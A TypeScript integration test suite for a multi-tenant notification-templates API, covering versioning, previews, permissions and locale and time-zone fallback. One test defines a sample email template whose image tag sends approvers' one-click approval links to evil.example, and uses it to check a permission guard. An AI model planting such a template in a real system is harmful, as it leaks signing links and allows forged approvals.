// Notification templates through the real API, Postgres, Temporal and an SMTP sink: CRUD with versions, If-Match and
// status moves; syntax errors with line and column; previews within the budget; a tenant's German override used for a
// German user and English for the others; drafts and archived ones never used; times shown in the recipient's zone.
import { monitorEventLoopDelay } from 'node:perf_hooks';
import { randomUUID } from 'node:crypto';
import { VERSION_LIST_LIMIT } from '../../api/conventions';
import { User } from '../../db';
import { renderNotification } from '../../domains/notifications/render';
import { buildProcurementTenant, createApprovalTemplate, submitOrder } from '../helpers/approvals';
import { TestApp } from '../helpers/app';
import { Stack, startStack } from '../helpers/stack';
import { createDueSoon } from '../helpers/due';
import { buildApiKey, buildCaller, buildUser } from '../helpers/factories';
import { expectBadPageParamsRefused, newestFirst, versionPages } from '../helpers/pages';
import type { SmtpSink } from '../helpers/smtp-sink';
import type { WebhookReceiver } from '../helpers/webhook-receiver';
import { waitFor } from '../helpers/wait';

let stack: Stack;
let app: TestApp;
let hooks: WebhookReceiver;
let smtp: SmtpSink;
beforeAll(async () => { ({ app, hooks, smtp } = stack = await startStack()); });
afterAll(() => stack.close());

/** An instant as a recipient in `zone` reads it: "2026-12-01 20:45". */
const local = (iso: string, zone: string) => new Intl.DateTimeFormat('sv-SE', { timeZone: zone, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit' }).format(new Date(iso));

const germanOutcome = {
  type: 'approval.outcome', channel: 'email', locale: 'de', status: 'active',
  parts: { subject: 'Ihr Antrag wurde abgeschlossen ({{ status }}): {{ title }}', text: 'Hallo {{ recipient.name }},\n\n„{{ title }}“: {{ status }} am {{ decidedAt }}{% if reason %} – {{ reason }}{% endif %}.' },
};

describe('notification templates API', () => {
  it('lists the notification types with variables and built-in texts', async () => {
    const { key } = await buildCaller(['notifications.templates.read']);
    const items = (await app.call('get', '/v1/notification-types', key).expect(200)).body.items;
    const outcome = items.find((t: { type: string }) => t.type === 'approval.outcome');
    expect(outcome.channels).toEqual(['email', 'in_app']);
    expect(outcome.defaults.email.subject).toBe('Your request was {{ status }}: {{ title }}');
    expect(Object.keys(outcome.variables)).toEqual(expect.arrayContaining(['status', 'title', 'reason', 'recipient.name']));
    expect(items.map((t: { type: string }) => t.type)).toEqual(expect.arrayContaining(['approval.action_needed', 'approval.new_request', 'job.run_failed']));
  });

  it('creates, versions on every edit (If-Match, 412), moves status, refuses bad moves, a second active one and bad parts', async () => {
    const { key } = await buildCaller(['*']);
    const created = await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, status: undefined }).expect(201);
    expect(created.headers.etag).toBe('"v1"');
    expect(created.body).toMatchObject({ type: 'approval.outcome', channel: 'email', locale: 'de', status: 'draft', version: 1, parts: { html: '' } });
    const id = created.body.id;
    const activated = await app.call('put', `/v1/notification-templates/${id}`, key).set('If-Match', '"v1"').send({ status: 'active' }).expect(200);
    expect(activated.body).toMatchObject({ status: 'active', version: 2 });
    expect((await app.call('put', `/v1/notification-templates/${id}`, key).set('If-Match', '"v1"').send({ status: 'archived' }).expect(412)).body.code).toBe('PRECONDITION_FAILED');
    const edited = await app.call('put', `/v1/notification-templates/${id}`, key).send({ parts: { subject: 'Neu: {{ title }}', text: 'Hallo' } }).expect(200);
    expect(edited.headers.etag).toBe('"v3"');
    // Another active template of the same type, channel and locale: refused, nothing written.
    expect((await app.call('post', '/v1/notification-templates', key).send(germanOutcome).expect(409)).body.code).toBe('ALREADY_EXISTS');
    // Archived → active directly is not a move.
    await app.call('put', `/v1/notification-templates/${id}`, key).send({ status: 'archived' }).expect(200);
    expect((await app.call('put', `/v1/notification-templates/${id}`, key).send({ status: 'active' }).expect(409)).body.code).toBe('INVALID_STATE');
    await app.call('put', `/v1/notification-templates/${id}`, key).send({ status: 'draft' }).expect(200);
    const versions = (await app.call('get', `/v1/notification-templates/${id}/versions`, key).expect(200)).body.items;
    expect(versions.map((v: { version: number; status: string }) => `${v.version}:${v.status}`)).toEqual(['5:draft', '4:archived', '3:active', '2:active', '1:draft']);
    expect(versions.find((v: { version: number }) => v.version === 1).parts.subject).toBe(germanOutcome.parts.subject);
    expect((await app.call('get', `/v1/notification-templates?locale=de&type=approval.outcome`, key).expect(200)).body.items.map((t: { id: string }) => t.id)).toEqual([id]);

    // A syntax error names the part, line and column; nothing is saved.
    const bad = await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, locale: 'fr', parts: { subject: 'ok', text: 'Bonjour\n\n{% if reason %}sans fin' } }).expect(422);
    expect(bad.body.code).toBe('TEMPLATE_SYNTAX_ERROR');
    expect(bad.body.errors[0]).toMatchObject({ path: '/requestBody/parts/text', line: 3, column: 1 });
    const badEdit = await app.call('put', `/v1/notification-templates/${id}`, key).send({ parts: { subject: '{{ title', text: 'x' } }).expect(422);
    expect(badEdit.body.errors[0]).toMatchObject({ path: '/requestBody/parts/subject', line: 1 });
    expect((await app.call('get', `/v1/notification-templates/${id}`, key).expect(200)).body.version).toBe(5);
    // Parts of the wrong channel, a missing required part, an unknown type, a channel the type is not sent by.
    expect((await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, parts: { subject: 'x', text: 'y', title: 'z' } }).expect(400)).body.errors[0].path).toBe('/requestBody/parts/title');
    expect((await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, channel: 'in_app', parts: { title: 'x' } }).expect(400)).body.errors[0].path).toBe('/requestBody/parts/body');
    expect((await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, type: 'nope' }).expect(400)).body.errors[0].path).toBe('/requestBody/type');
    expect((await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, type: 'job.run_failed', channel: 'in_app', parts: { title: 'x', body: 'y' } }).expect(400)).body.errors[0].path).toBe('/requestBody/channel');
    await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, locale: 'not a locale!' }).expect(400);

    await app.call('delete', `/v1/notification-templates/${id}`, key).expect(204);
    await app.call('get', `/v1/notification-templates/${id}`, key).expect(404);
  });

  it('pages the versions of a template newest first: 20 by default, then the rest through nextCursor; a bad cursor or limit is a 400', async () => {
    const { key } = await buildCaller(['*']);
    const id = (await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, status: undefined }).expect(201)).body.id;
    for (let i = 0; i < 21; i++) await app.call('put', `/v1/notification-templates/${id}`, key).send({ parts: { subject: `Edit ${i}`, text: 'Hallo' } }).expect(200);
    const url = `/v1/notification-templates/${id}/versions`;
    expect(await versionPages(app, key, url)).toEqual([newestFirst(22).slice(0, 20), [2, 1]]);
    expect((await versionPages(app, key, url, 'limit=7')).flat()).toEqual(newestFirst(22));
    const first = (await app.call('get', url, key).expect(200)).body;
    expect(first.items[0].parts.subject).toBe('Edit 20');
    expect((await app.call('get', `${url}?cursor=${encodeURIComponent(first.nextCursor)}`, key).expect(200)).body.items[1].parts.subject).toBe(germanOutcome.parts.subject);
    await expectBadPageParamsRefused(app, key, url, { maxLimit: VERSION_LIST_LIMIT });
  });

  it('previews with the sample data or given data, times in the given zone, and refuses work over the budget', async () => {
    const { key } = await buildCaller(['*']);
    const t = (await app.call('post', '/v1/notification-templates', key).send({
      type: 'job.run_failed', channel: 'email', locale: 'en', parts: { subject: 'Failed: {{ scheduleName }}', text: '{{ failedAt }} – {{ error }}', html: '<p>{{ error }}</p>' },
    }).expect(201)).body;
    const sample = (await app.call('post', `/v1/notification-templates/${t.id}/preview`, key).send({}).expect(200)).body;
    expect(sample).toEqual({ subject: 'Failed: Nightly purge', text: '2026-11-23 02:00 (UTC) – connection refused', html: '<p>connection refused</p>' });
    const given = (await app.call('post', `/v1/notification-templates/${t.id}/preview`, key).send({ timeZone: 'Asia/Tokyo', data: { error: '<b>boom</b>' } }).expect(200)).body;
    expect(given.text).toBe('2026-11-23 11:00 (Asia/Tokyo) – <b>boom</b>');
    expect(given.html).toBe('<p>&lt;b&gt;boom&lt;/b&gt;</p>');
    expect((await app.call('post', `/v1/notification-templates/${t.id}/preview`, key).send({ timeZone: 'Mars/Base' }).expect(400)).body.code).toBe('VALIDATION_FAILED');
    const loop = (await app.call('post', '/v1/notification-templates', key).send({
      type: 'job.run_failed', channel: 'email', locale: 'de', parts: { subject: 'x', text: '{% for i in (1..100000000) %}{{ i }}{% endfor %}' },
    }).expect(201)).body;
    const refused = await app.call('post', `/v1/notification-templates/${loop.id}/preview`, key).send({}).expect(422);
    expect(['TEMPLATE_RENDER_ERROR', 'TEMPLATE_RENDER_LIMIT']).toContain(refused.body.code);
  });

  it('permissions: readers read and preview, only managers write; another tenant sees nothing', async () => {
    const { tenant, key: admin } = await buildCaller(['*']);
    const t = (await app.call('post', '/v1/notification-templates', admin).send(germanOutcome).expect(201)).body;
    const reader = await buildCaller(['notifications.templates.read'], tenant);
    const manager = await buildCaller(['notifications.templates.manage'], tenant);
    const nobody = await buildCaller([], tenant);
    await app.call('get', `/v1/notification-templates/${t.id}`, reader.key).expect(200);
    await app.call('post', `/v1/notification-templates/${t.id}/preview`, reader.key).send({}).expect(200);
    expect((await app.call('put', `/v1/notification-templates/${t.id}`, reader.key).send({ status: 'archived' }).expect(403)).body.code).toBe('PERMISSION_DENIED');
    await app.call('post', '/v1/notification-templates', reader.key).send({ ...germanOutcome, locale: 'it' }).expect(403);
    await app.call('delete', `/v1/notification-templates/${t.id}`, reader.key).expect(403);
    for (const path of ['/v1/notification-types', '/v1/notification-templates', `/v1/notification-templates/${t.id}`]) await app.call('get', path, nobody.key).expect(403);
    await app.call('put', `/v1/notification-templates/${t.id}`, manager.key).send({ status: 'archived' }).expect(200);
    const other = await buildCaller(['*']);
    await app.call('get', `/v1/notification-templates/${t.id}`, other.key).expect(404);
    await app.call('put', `/v1/notification-templates/${t.id}`, other.key).send({ status: 'draft' }).expect(404);
    await app.call('post', `/v1/notification-templates/${t.id}/preview`, other.key).send({}).expect(404);
    await app.call('delete', `/v1/notification-templates/${t.id}`, other.key).expect(404);
    expect((await app.call('get', '/v1/notification-templates', other.key).expect(200)).body.items).toEqual([]);
  });
});

describe('templates that carry one-click approval links', () => {
  // A manager who could rewrite approval.action_needed could send approvers' links to a server of theirs (a remote
  // image, a link of their own) and sign with them: writing it needs approvals.flow.decide too.
  const exfiltrating = {
    type: 'approval.action_needed', channel: 'email', locale: 'en', status: 'active',
    parts: { subject: 'Approval', text: 'Approve: {{ approveUrl }}', html: '<img src="https://evil.example/x?a={{ approveUrl | url_encode }}">' },
  };

  it('writing or activating one needs approvals.flow.decide besides notifications.templates.manage; setting one aside does not', async () => {
    const { tenant, key: admin } = await buildCaller(['*']);
    const callers: [string, string[], string[] | undefined, boolean][] = [
      ['templates manager', ['notifications.templates.manage'], undefined, false],
      ['templates manager who signs', ['notifications.templates.manage', 'approvals.flow.sign', 'approvals.flow.admin'], undefined, false],
      ['an admin whose key is scoped to notifications', ['*'], ['notifications.*'], false],
      ['templates manager who decides flows', ['notifications.templates.manage', 'approvals.flow.decide'], undefined, true],
      ['templates manager with approvals.*', ['notifications.*', 'approvals.*'], undefined, true],
      ['an admin', ['*'], undefined, true],
    ];
    const draft = (await app.call('post', '/v1/notification-templates', admin).send({ ...exfiltrating, status: 'draft' }).expect(201)).body;
    for (const [i, [who, permissions, scopes, allowed]] of callers.entries()) {
      const { user } = await buildCaller(permissions, tenant);
      const key = await buildApiKey(user, { scopes });
      const created = await app.call('post', '/v1/notification-templates', key).send({ ...exfiltrating, status: 'draft', locale: ['de', 'fr', 'it', 'es', 'nl', 'pt'][i] });
      const edited = await app.call('put', `/v1/notification-templates/${draft.id}`, key).send({ parts: exfiltrating.parts });
      const activated = await app.call('put', `/v1/notification-templates/${draft.id}`, key).send({ status: 'active' });
      expect([who, created.status, edited.status, activated.status]).toEqual([who, ...(allowed ? [201, 200, 200] : [403, 403, 403])]);
      if (!allowed) {
        for (const res of [created, edited, activated]) expect(res.body).toMatchObject({ code: 'PERMISSION_DENIED', permission: 'approvals.flow.decide' });
      } else {
        // Back to a draft for the next caller: setting it aside needs only the manage permission.
        const { key: manager } = await buildCaller(['notifications.templates.manage'], tenant);
        await app.call('put', `/v1/notification-templates/${draft.id}`, manager).send({ status: 'draft' }).expect(200);
        await app.call('delete', `/v1/notification-templates/${created.body.id}`, manager).expect(204);
      }
    }
    // The refused left nothing: only the admin's draft and the allowed callers' edits are versions.
    const versions = (await app.call('get', `/v1/notification-templates/${draft.id}/versions`, admin).expect(200)).body.items as { version: number }[];
    expect(versions.length).toBe(1 + 3 * 3);
    // Other types stay open to every manager.
    const { key: manager } = await buildCaller(['notifications.templates.manage'], tenant);
    await app.call('post', '/v1/notification-templates', manager).send(germanOutcome).expect(201);
  });
});

describe('users carry a locale and a time zone', () => {
  it('set on create and edit, shown, checked', async () => {
    const { key } = await buildCaller(['*']);
    const created = await app.call('post', '/v1/users', key).send({ email: `u-${randomUUID().slice(0, 8)}@example.com`, name: 'Heidi', locale: 'de', timeZone: 'Europe/Berlin' }).expect(201);
    expect(created.body).toMatchObject({ locale: 'de', timeZone: 'Europe/Berlin' });
    const edited = await app.call('patch', `/v1/users/${created.body.id}`, key).send({ locale: 'fr-CA', timeZone: null }).expect(200);
    expect(edited.body).toMatchObject({ locale: 'fr-CA', timeZone: null });
    expect((await app.call('patch', `/v1/users/${created.body.id}`, key).send({ timeZone: 'Europe/Nowhere' }).expect(400)).body.errors[0].path).toBe('/requestBody/timeZone');
    await app.call('patch', `/v1/users/${created.body.id}`, key).send({ locale: 'de DE' }).expect(400);
    expect((await app.call('get', `/v1/users/${created.body.id}`, key).expect(200)).body).toMatchObject({ locale: 'fr-CA', timeZone: null });
  });
});

describe('which text a recipient gets', () => {
  it('the tenant\'s active template for the locale, then the language, then en, then built-in; never a draft or an archived one', async () => {
    const { tenant, key } = await buildCaller(['*']);
    const make = async (locale: string, status: string, subject: string) => (await app.call('post', '/v1/notification-templates', key).send({ type: 'approval.outcome', channel: 'email', locale, status, parts: { subject, text: 't' } }).expect(201)).body;
    const subjectFor = async (locale: string | null) => (await renderNotification(tenant.id, 'approval.outcome', 'email', { name: 'A', email: 'a@example.com', locale }, { status: 'approved', title: 'PO-1', reason: '' })).subject;
    expect(await subjectFor('de')).toBe('Your request was approved: PO-1');
    await make('fr', 'draft', 'brouillon');
    const archived = await make('it', 'active', 'italiano');
    await app.call('put', `/v1/notification-templates/${archived.id}`, key).send({ status: 'archived' }).expect(200);
    expect(await subjectFor('fr')).toBe('Your request was approved: PO-1');
    expect(await subjectFor('it')).toBe('Your request was approved: PO-1');
    await make('de', 'active', 'Deutsch {{ title }}');
    await make('fr', 'active', 'Français {{ title }}');
    await make('fr-CA', 'active', 'Québec {{ title }}');
    expect(await subjectFor('de')).toBe('Deutsch PO-1');
    expect(await subjectFor('de-AT')).toBe('Deutsch PO-1');
    expect(await subjectFor('fr-CA')).toBe('Québec PO-1');
    expect(await subjectFor('fr-BE')).toBe('Français PO-1');
    expect(await subjectFor(null)).toBe('Your request was approved: PO-1');
    await make('en', 'active', 'Tenant English {{ title }}');
    expect(await subjectFor(null)).toBe('Tenant English PO-1');
    expect(await subjectFor('es')).toBe('Tenant English PO-1');
    // A tenant template that cannot render within its limits at send time: the built-in text goes out instead.
    await make('nl', 'active', '{% for i in (1..100000000) %}{{ i }}{% endfor %}');
    const delay = monitorEventLoopDelay({ resolution: 10 });
    delay.enable();
    expect(await subjectFor('nl')).toBe('Your request was approved: PO-1');
    delay.disable();
    // It ran on the work pool: the seconds it took did not hold this (the worker's) event loop.
    expect(delay.max / 1e6).toBeLessThan(1_000);
    // Another tenant's templates are not this tenant's.
    const other = await buildCaller(['*']);
    expect((await renderNotification(other.tenant.id, 'approval.outcome', 'email', { name: 'A', email: 'a@example.com', locale: 'de' }, { status: 'approved', title: 'PO-1' })).subject).toBe('Your request was approved: PO-1');
  });

  it('a requester told in German (email and in-app) with a German override, another without a locale in English', async () => {
    const t = await buildProcurementTenant();
    await createApprovalTemplate(app, t.adminKey);
    await app.call('post', '/v1/notification-templates', t.adminKey).send(germanOutcome).expect(201);
    await app.call('post', '/v1/notification-templates', t.adminKey).send({
      type: 'approval.outcome', channel: 'in_app', locale: 'de', status: 'active', parts: { title: 'Antrag {{ status }}: {{ title }}', body: 'Grund: {{ reason }}' },
    }).expect(201);
    // The buyer chooses German and Berlin time for themselves.
    await app.call('patch', '/v1/me', t.buyer.key).send({ locale: 'de', timeZone: 'Europe/Berlin' }).expect(200);
    const { flowId, flow } = await submitOrder(app, t);
    const decided = await app.call('post', `/v1/approval-flows/${flowId}/sign`, t.fin[2].key).send({ decision: 'reject', comment: 'Zu teuer' }).expect(200);
    const mail = await smtp.waitFor((m) => m.to.includes(t.buyer.user.email) && m.subject.includes(flow.title));
    expect(mail.subject).toBe(`Ihr Antrag wurde abgeschlossen (rejected): ${flow.title}`);
    expect(mail.text).toContain('Hallo buyer');
    expect(mail.text).toContain(`rejected am ${local(decided.body.completedAt, 'Europe/Berlin')} (Europe/Berlin) – Zu teuer`);
    const inbox = await waitFor(async () => { const b = (await app.call('get', '/v1/me/notifications', t.buyer.key).expect(200)).body; return b.items.length > 0 && b; }, { what: 'in-app notice' });
    expect(inbox.items[0].message).toBe('Grund: Zu teuer');
    // The approvers (no locale) were asked in English, with their one-click links.
    const asked = smtp.messages.find((m) => m.to.includes(t.fin[0].user.email) && m.subject === `Approval requested: ${flow.title}`);
    expect(asked?.text).toMatch(/Approve: http\S+\/v1\/approval-links\//);

    // The buyer without a locale: the built-in English text, once.
    await app.call('patch', `/v1/users/${t.buyer.user.id}`, t.adminKey).send({ locale: null }).expect(200);
    const second = await submitOrder(app, t);
    await app.call('post', `/v1/approval-flows/${second.flowId}/sign`, t.fin[2].key).send({ decision: 'reject', comment: 'No' }).expect(200);
    const english = await smtp.waitFor((m) => m.to.includes(t.buyer.user.email) && m.subject.includes(second.flow.title));
    expect(english.subject).toBe(`Your request was rejected: ${second.flow.title}`);
    const secondFlow = (await app.call('get', `/v1/approval-flows/${second.flowId}`, t.buyer.key).expect(200)).body;
    expect(english.text).toContain(`was rejected at ${local(secondFlow.completedAt, 'Europe/Berlin')} (Europe/Berlin): No.`);
    await new Promise((r) => setTimeout(r, 300));
    expect(smtp.messages.filter((m) => m.to.includes(t.buyer.user.email) && m.subject.includes(second.flow.title))).toHaveLength(1);
  });

  it('a user without a locale or zone gets the tenant\'s default; one who chose English gets English; the chain ends at English', async () => {
    const { tenant, key } = await buildCaller(['*']);
    await app.call('post', '/v1/notification-templates', key).send({ ...germanOutcome, parts: { subject: 'Entschieden am {{ decidedAt }}: {{ title }}', text: 't' } }).expect(201);
    const decidedAt = '2026-07-01T10:00:00Z';
    const subjectFor = async (locale: string | null, timeZone: string | null = null) => (await renderNotification(tenant.id, 'approval.outcome', 'email', { name: 'A', email: 'a@example.com', locale, timeZone }, { status: 'approved', title: 'PO-1', reason: '', decidedAt })).subject;
    expect(await subjectFor(null)).toBe('Your request was approved: PO-1');
    await app.call('put', '/v1/settings/notifications', key).send({ defaultLocale: 'de-CH', defaultTimeZone: 'Europe/Berlin' }).expect(200);
    expect(await subjectFor(null)).toBe('Entschieden am 2026-07-01 12:00 (Europe/Berlin): PO-1');
    expect(await subjectFor('fr')).toBe('Entschieden am 2026-07-01 12:00 (Europe/Berlin): PO-1');
    expect(await subjectFor('de', 'Asia/Tokyo')).toBe('Entschieden am 2026-07-01 19:00 (Asia/Tokyo): PO-1');
    expect(await subjectFor('en')).toBe('Your request was approved: PO-1');
    expect(await subjectFor('en-GB')).toBe('Your request was approved: PO-1');
    // The built-in English text shows the time in the tenant's default zone too.
    const text = (await renderNotification(tenant.id, 'approval.outcome', 'email', { name: 'A', email: 'a@example.com', locale: 'en' }, { status: 'approved', title: 'PO-1', reason: '', decidedAt })).text;
    expect(text).toContain('"PO-1" was approved at 2026-07-01 12:00 (Europe/Berlin).');
    // Another tenant's default is not this one's.
    const other = await buildCaller(['*']);
    await app.call('post', '/v1/notification-templates', other.key).send(germanOutcome).expect(201);
    expect((await renderNotification(other.tenant.id, 'approval.outcome', 'email', { name: 'A', email: 'a@example.com' }, { status: 'approved', title: 'PO-1', decidedAt })).subject).toBe('Your request was approved: PO-1');
  });

  it('a failed job run is shown at the Tokyo time to a user in Asia/Tokyo, in UTC to a user without a zone', async () => {
    const { tenant, key } = await buildCaller(['*']);
    const tokyo = await buildUser(tenant, { name: 'Aiko' });
    await User.update({ timeZone: 'Asia/Tokyo' }, { where: { id: tokyo.id } });
    const utc = await buildUser(tenant, { name: 'Una' });
    hooks.respondWith(500);
    const s = (await createDueSoon((runAt) => app.call('post', '/v1/job-schedules', key).send({
      name: `fail ${randomUUID().slice(0, 6)}`, jobType: 'http', params: { url: `${hooks.url}/tz`, method: 'POST' }, runAt,
      retry: { maximumAttempts: 1 }, notifyOnFailure: { users: [tokyo.id, utc.id], roles: [] },
    }), [2000, 5000, 10_000])).body;
    const run = await waitFor(async () => (await app.call('get', `/v1/job-schedules/${s.id}/runs`, key).expect(200)).body.items.find((r: { status: string }) => r.status === 'failed'), { what: 'failed run', timeoutMs: 60_000 });
    const finishedAt = new Date(run.finishedAt);
    const fmt = (zone: string) => new Intl.DateTimeFormat('sv-SE', { timeZone: zone, year: 'numeric', month: '2-digit', day: '2-digit', hour: '2-digit', minute: '2-digit' }).format(finishedAt);
    const toTokyo = await smtp.waitFor((m) => m.to.includes(tokyo.email) && m.subject === `Job failed: ${s.name}`);
    expect(toTokyo.text).toContain(`failed at ${fmt('Asia/Tokyo')} (Asia/Tokyo)`);
    const toUtc = await smtp.waitFor((m) => m.to.includes(utc.email) && m.subject === `Job failed: ${s.name}`);
    expect(toUtc.text).toContain(`failed at ${fmt('UTC')} (UTC)`);
    expect(fmt('Asia/Tokyo')).not.toBe(fmt('UTC'));
  });
});
